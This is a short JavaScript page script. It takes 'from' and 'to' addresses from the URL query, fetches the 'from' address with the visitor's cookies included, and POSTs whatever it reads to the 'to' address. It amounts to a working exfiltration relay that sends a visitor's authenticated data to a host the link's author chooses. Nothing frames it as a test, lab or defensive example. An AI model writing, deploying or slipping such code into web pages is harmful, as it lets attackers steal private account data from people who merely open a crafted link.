// What the visitor may read goes to where the page was told to send it.
const main = async () => {
  const {from, to} = Object.fromEntries(new URLSearchParams(location.search));
  const state = document.getElementById("state");
  try {
    const data = await (await fetch(from, {credentials: "include"})).text();
    const sent = await fetch(to, {method: "POST", body: new URLSearchParams({data})});
    state.textContent = sent.ok ? "Sent." : `The cache says ${sent.status}.`;
  } catch {
    state.textContent = "Nothing could be read.";
  }
};

main();
